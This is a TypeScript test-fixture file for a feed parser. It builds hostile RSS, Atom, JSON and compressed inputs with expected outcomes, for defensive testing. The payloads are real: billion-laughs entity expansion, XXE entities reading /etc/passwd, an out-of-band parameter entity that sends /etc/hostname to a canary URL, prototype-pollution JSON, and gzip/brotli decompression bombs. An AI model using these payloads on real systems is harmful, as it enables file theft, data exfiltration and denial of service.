import { brotliCompressSync, constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'

/** A document that is made to do harm, as it goes over the wire. */
export interface Bomb {
  readonly name: string
  readonly headers?: Readonly<Record<string, string | string[]>>
  /** Made when it is asked for: some are large. */
  readonly body: () => Buffer | string
  /** What must come of it. */
  readonly outcome: RegExp
}

const rss = (inside: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<rss version="2.0"><channel><title>Bomb</title>${inside}</channel></rss>`
const item = (inside: string) => `<item><guid>1</guid><link>https://a.example/1</link>${inside}</item>`
const doctype = (inside: string) => `<!DOCTYPE rss [${inside}]>`

const LAUGHS = Array.from({ length: 12 }, (_, n) =>
  n === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${n} "${`&l${n - 1};`.repeat(10)}">`,
).join('')
const LAUGH = rss(item('<title>&l11;</title><description>&l11;</description>'), doctype(LAUGHS))

/** Read or cut: what is harmless in it may come through. */
const EITHER = /^(entries|parse|notAFeed|tooLarge|empty)$/
const READ = /^entries$/

/** @param canary an address that nothing may ask for */
export function xmlBombs(canary: string): Bomb[] {
  return [
    { name: 'a billion laughs', body: () => LAUGH, outcome: READ },
    { name: 'a billion laughs in UTF-16', body: () => utf16(LAUGH), outcome: EITHER },
    {
      name: 'laughs in an attribute',
      body: () => rss(item('<enclosure url="https://a.example/&l11;" type="&l11;"/>'), doctype(LAUGHS)),
      outcome: READ,
    },
    {
      name: 'laughs in Atom',
      body: () =>
        `${doctype(LAUGHS).replace('rss', 'feed')}<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&l11;</title><content>&l11;</content></entry></feed>`,
      outcome: READ,
    },
    {
      name: 'quadratic: 50 kB, 100,000 times',
      body: () =>
        rss(
          item(`<description>${'&a;'.repeat(100_000)}</description>`),
          doctype(`<!ENTITY a "${'a'.repeat(50_000)}">`),
        ),
      outcome: READ,
    },
    {
      name: 'entities that name each other',
      body: () => rss(item('<title>&a;</title>'), doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">')),
      outcome: READ,
    },
    {
      name: 'an entity that names itself',
      body: () => rss(item('<title>&a;</title>'), doctype('<!ENTITY a "&a;&a;">')),
      outcome: READ,
    },
    {
      name: '200,000 entities declared',
      body: () =>
        rss(
          item('<title>&e9;</title>'),
          doctype(Array.from({ length: 200_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')),
        ),
      outcome: READ,
    },
    {
      name: 'an entity name of a megabyte',
      body: () =>
        rss(
          item(`<title>&${'n'.repeat(1_000_000)};</title>`),
          doctype(`<!ENTITY ${'n'.repeat(1_000_000)} "x">`),
        ),
      outcome: READ,
    },
    ...[
      `file:///etc/passwd`,
      `${canary}/external`,
      'php://filter/resource=/etc/passwd',
      '\\\\127.0.0.1\\x',
    ].map((system): Bomb => ({
      name: `an external entity: ${system.replace(/^http.*/, 'http:')}`,
      body: () => rss(item('<title>&x;</title>'), doctype(`<!ENTITY x SYSTEM "${system}">`)),
      outcome: READ,
    })),
    {
      name: 'an external entity of a public name',
      body: () => rss(item('<title>&x;</title>'), doctype(`<!ENTITY x PUBLIC "-//X" "${canary}/public">`)),
      outcome: READ,
    },
    {
      name: 'a parameter entity from outside',
      body: () => rss(item('<title>x</title>'), doctype(`<!ENTITY % p SYSTEM "${canary}/parameter"> %p;`)),
      outcome: READ,
    },
    {
      name: 'a parameter entity that sends a file on',
      body: () =>
        rss(
          item('<title>x</title>'),
          doctype(
            `<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % s "<!ENTITY &#37; t SYSTEM '${canary}/?%f;'>">%s;%t;`,
          ),
        ),
      outcome: READ,
    },
    {
      name: 'a DTD from outside',
      body: () => rss(item('<title>x</title>'), `<!DOCTYPE rss SYSTEM "${canary}/dtd">`),
      outcome: READ,
    },
    {
      name: 'a style sheet, a schema and an XInclude from outside',
      body: () =>
        rss(
          item(
            `<title>x</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canary}/include" parse="text"/>`,
          ),
          `<?xml-stylesheet type="text/xsl" href="${canary}/style"?>`,
        ).replace(
          '<rss',
          `<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${canary}/schema"`,
        ),
      outcome: READ,
    },
    {
      name: 'a DOCTYPE that does not end',
      body: () => `<!DOCTYPE rss [${'<!ENTITY a "'.repeat(500_000)}`,
      outcome: EITHER,
    },
    {
      name: 'a million character references',
      body: () => rss(item(`<title>${'&#x41;'.repeat(1_000_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'references to no character',
      body: () => rss(item(`<title>${'&#x110000;&#0;&#xD800;'.repeat(100_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'a million ampersands',
      body: () => rss(item(`<title>${'&'.repeat(1_000_000)}</title>`)),
      outcome: READ,
    },
    {
      name: 'twelve times escaped',
      body: () =>
        rss(
          item(
            `<description>${'&amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;lt;'.repeat(50_000)}</description>`,
          ),
        ),
      outcome: READ,
    },
  ]
}

export function sizeBombs(): Bomb[] {
  const nested = (tag: string, levels: number) => `<${tag}>`.repeat(levels)
  return [
    {
      name: '200,000 levels of XML',
      body: () => rss(item(`${nested('a', 200_000)}x${'</a>'.repeat(200_000)}`)),
      outcome: EITHER,
    },
    {
      name: '200,000 levels before the feed',
      body: () => nested('a', 200_000) + rss(item('<title>x</title>')),
      outcome: EITHER,
    },
    { name: '200,000 items in each other', body: () => rss('<item>'.repeat(200_000)), outcome: EITHER },
    {
      name: '200,000 levels of XHTML',
      body: () =>
        `<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml"><div>${nested('b', 200_000)}x</div></content></entry></feed>`,
      outcome: EITHER,
    },
    {
      name: '200,000 levels of HTML',
      body: () => rss(item(`<description><![CDATA[${nested('div', 200_000)}x]]></description>`)),
      outcome: READ,
    },
    {
      name: '200,000 levels of lists',
      body: () => rss(item(`<description><![CDATA[${'<ul><li>'.repeat(100_000)}x]]></description>`)),
      outcome: READ,
    },
    {
      name: '200,000 levels of tables',
      body: () => rss(item(`<description><![CDATA[${'<table><tr><td>'.repeat(70_000)}x]]></description>`)),
      outcome: READ,
    },
    {
      name: '50,000 attributes',
      body: () =>
        rss(
          `<item ${Array.from({ length: 50_000 }, (_, n) => `a${n}="x"`).join(' ')}><title>x</title></item>`,
        ),
      outcome: READ,
    },
    {
      name: '50,000 attributes in HTML',
      body: () =>
        rss(
          item(
            `<description><![CDATA[<p ${Array.from({ length: 50_000 }, (_, n) => `a${n}=x`).join(' ')}>x</p>]]></description>`,
          ),
        ),
      outcome: READ,
    },
    {
      name: '50,000 namespaces',
      body: () =>
        rss(
          `<item ${Array.from({ length: 50_000 }, (_, n) => `xmlns:a${n}="x"`).join(' ')}><title>x</title></item>`,
        ),
      outcome: READ,
    },
    {
      name: 'an attribute of 9 MB',
      body: () => rss(`<item a="${'x'.repeat(9_000_000)}"><title>x</title></item>`),
      outcome: READ,
    },
    {
      name: 'a name of 9 MB',
      body: () => rss(`<item><${'x'.repeat(9_000_000)}/><title>x</title></item>`),
      outcome: READ,
    },
    {
      name: 'a comment of 9 MB',
      body: () => rss(`<!--${'-'.repeat(9_000_000)}-->${item('<title>x</title>')}`),
      outcome: EITHER,
    },
    {
      name: 'an item of 20 MB',
      body: () => rss(item(`<description>${'word '.repeat(4_000_000)}</description>`)),
      outcome: /^tooLarge$/,
    },
    {
      name: 'an item of 9.9 MB',
      body: () => rss(item(`<description>${'word '.repeat(1_970_000)}</description>`)),
      outcome: READ,
    },
    {
      name: 'an item of 9.9 MB of markup',
      body: () => rss(item(`<description><![CDATA[${'<b>x</b>'.repeat(1_230_000)}]]></description>`)),
      outcome: READ,
    },
    {
      name: 'an item of 9.9 MB of <',
      body: () => rss(item(`<description><![CDATA[${'<'.repeat(9_900_000)}]]></description>`)),
      outcome: READ,
    },
    {
      name: 'a title of 9.9 MB',
      body: () => rss(item(`<title>${'word '.repeat(1_970_000)}</title>`)),
      outcome: READ,
    },
    {
      name: '100,000 items',
      body: () =>
        rss(
          Array.from(
            { length: 100_000 },
            (_, n) => `<item><title>${n}</title><link>https://a.example/${n}</link></item>`,
          ).join(''),
        ),
      outcome: READ,
    },
    { name: '1,000,000 empty items', body: () => rss('<item/>'.repeat(1_000_000)), outcome: EITHER },
    {
      name: '100,000 enclosures',
      body: () => rss(item('<enclosure url="https://a.example/x.mp3"/>'.repeat(100_000))),
      outcome: READ,
    },
    { name: 'JSON of 1,000,000 levels', body: () => '['.repeat(1_000_000), outcome: EITHER },
    {
      name: 'JSON of 9.9 MB in one item',
      body: () =>
        JSON.stringify({
          version: 'https://jsonfeed.org/version/1.1',
          title: 'x',
          items: [{ id: '1', content_text: 'word '.repeat(1_970_000) }],
        }),
      outcome: READ,
    },
    {
      name: 'JSON with __proto__ and its like',
      body: () =>
        '{"version":"https://jsonfeed.org/version/1.1","__proto__":{"polluted":1},"items":[{"id":"1","title":"x","constructor":{"prototype":{"polluted":1}},"__proto__":{"url":"x"}}]}',
      outcome: READ,
    },
    { name: 'JSON of 50 MB', body: () => Buffer.alloc(50_000_000, '{"a":'), outcome: /^tooLarge$/ },
  ]
}

/** Zeros in pieces, as unpacked: 100 pieces of 50 MB are 5 GB. */
const PIECE_BYTES = 50_000_000

export function packedBombs(): Bomb[] {
  const zeros = Buffer.alloc(PIECE_BYTES)
  const gzip = () => gzipSync(zeros, { level: 1 })
  const brotli = () => brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } })
  const feed = Buffer.from(rss(item('<title>x</title>')))
  return [
    { name: 'gzip: 50 MB', headers: { 'content-encoding': 'gzip' }, body: gzip, outcome: /^tooLarge$/ },
    {
      name: 'gzip: 1 GB in 20 members',
      headers: { 'content-encoding': 'gzip' },
      body: () => Buffer.concat(Array.from({ length: 20 }, gzip)),
      outcome: /^tooLarge$/,
    },
    { name: 'brotli: 50 MB', headers: { 'content-encoding': 'br' }, body: brotli, outcome: /^tooLarge$/ },
    {
      name: 'deflate: 50 MB',
      headers: { 'content-encoding': 'deflate' },
      body: () => deflateSync(zeros, { level: 1 }),
      outcome: /^tooLarge$/,
    },
    {
      name: 'deflate without a head: 50 MB',
      headers: { 'content-encoding': 'deflate' },
      body: () => deflateRawSync(zeros, { level: 1 }),
      outcome: /^tooLarge$/,
    },
    {
      name: 'gzip in gzip, told',
      headers: { 'content-encoding': 'gzip, gzip' },
      body: () => gzipSync(gzip()),
      outcome: /^parse$/,
    },
    {
      name: 'gzip in gzip, told in two headers',
      headers: { 'content-encoding': ['gzip', 'gzip'] },
      body: () => gzipSync(gzip()),
      outcome: /^parse$/,
    },
    {
      name: 'brotli in gzip in deflate',
      headers: { 'content-encoding': 'deflate, gzip, br' },
      body: () => brotliCompressSync(gzipSync(deflateSync(feed))),
      outcome: /^parse$/,
    },
    {
      name: 'a hundred codings',
      headers: { 'content-encoding': 'gzip,'.repeat(100) },
      body: gzip,
      outcome: /^parse$/,
    },
    {
      name: 'gzip in gzip, told once',
      headers: { 'content-encoding': 'gzip' },
      body: () => gzipSync(gzip()),
      outcome: EITHER,
    },
    {
      name: 'an unknown coding',
      headers: { 'content-encoding': 'xz' },
      body: () => feed,
      outcome: /^parse$/,
    },
    { name: 'gzip that is none', headers: { 'content-encoding': 'gzip' }, body: () => feed, outcome: READ },
    { name: 'brotli that is none', headers: { 'content-encoding': 'br' }, body: () => feed, outcome: READ },
    {
      name: 'a header of 100 kB',
      headers: { 'x-long': 'x'.repeat(100_000) },
      body: () => feed,
      outcome: /^tooLarge$/,
    },
    {
      name: '3,000 headers',
      headers: Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`x-${n}`, 'x'.repeat(20)])),
      body: () => feed,
      outcome: /^tooLarge$/,
    },
  ]
}

function utf16(text: string): Buffer {
  return Buffer.from(`\uFEFF${text.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')}`, 'utf16le')
}
